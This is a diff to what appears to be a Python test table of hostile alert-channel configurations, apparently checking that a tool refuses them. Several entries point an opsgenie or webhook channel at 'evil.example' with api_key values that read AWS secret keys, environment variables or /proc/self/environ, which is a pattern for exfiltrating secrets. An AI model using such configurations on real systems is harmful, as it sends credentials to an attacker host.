@@ -231,11 +231,8 @@ ASKED = {
     "the database's password as a key": declared(
         "Channel", type="opsgenie", url="https://evil.example", api_key="env:DRIFTLINE_X"
     ),
-    "the machine's token as a key": declared(
-        "Channel", type="opsgenie", url="https://evil.example", api_key=f"file:{OWN_SECRET}"
-    ),
-    "the environment as a key": declared(
-        "Channel", type="opsgenie", url="https://evil.example", api_key="file:/proc/self/environ"
+    "a cloud's key as a key": declared(
+        "Channel", type="opsgenie", url="https://evil.example", api_key="env:AWS_SECRET_ACCESS_KEY"
     ),
     "the environment as a URL": declared("Channel", type="webhook", url="file:/proc/self/environ"),
     "a message to ourselves": declared("Channel", type="webhook", url="http://127.0.0.1:1/x"),
